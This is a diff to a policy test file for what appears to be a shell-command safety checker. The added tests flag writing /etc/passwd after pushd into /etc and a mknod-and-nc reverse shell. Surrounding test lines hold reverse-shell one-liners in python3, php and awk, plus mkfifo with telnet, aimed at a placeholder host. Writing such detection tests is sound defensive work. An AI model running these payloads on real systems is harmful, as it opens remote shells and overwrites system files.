@@ -149,6 +149,7 @@ test_writes_to_system_paths if {
 test_writes_after_cd_into_a_system_directory if {
 	run([c("cd", ["/etc"]), c("echo", ["x"])], [], [{"op": ">", "target": "passwd"}], []) == {system_write("writes passwd after changing into /etc")}
 	run([c("cd", ["/etc"]), c("cat", ["hosts"])], [], [{"op": ">", "target": "/srv/work/h"}], []) == set()
+	run([c("pushd", ["/etc"]), c("echo", ["x"])], [], [{"op": ">", "target": "passwd"}], []) == {system_write("writes passwd after changing into /etc")}
 }
 
 test_remote_code_piped_into_an_interpreter if {
@@ -192,6 +193,7 @@ test_reverse_shells if {
 		reverse("nc and sh in one pipeline relay a shell over the network"),
 	}
 	run([c("mkfifo", ["/tmp/f"]), c("cat", ["/tmp/f"]), c("telnet", ["h", "1"])], [], [], []) == {reverse("mkfifo with telnet relays a shell over the network")}
+	run([c("mknod", ["/tmp/f", "p"]), c("nc", ["h", "1"])], [], [], []) == {reverse("mknod with nc relays a shell over the network")}
 	cmds([c("python3", ["-c", "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"])]) == {reverse("python3 script opens a socket and runs a program")}
 	cmds([c("php", ["-r", "$s=fsockopen('h',1);exec('/bin/sh -i <&3 >&3');"])]) == {reverse("php script opens a socket and runs a program")}
 	cmds([c("awk", ["BEGIN {s = \"/inet/tcp/0/h/1\"}"])]) == {reverse("the command opens a network connection through /inet/")}
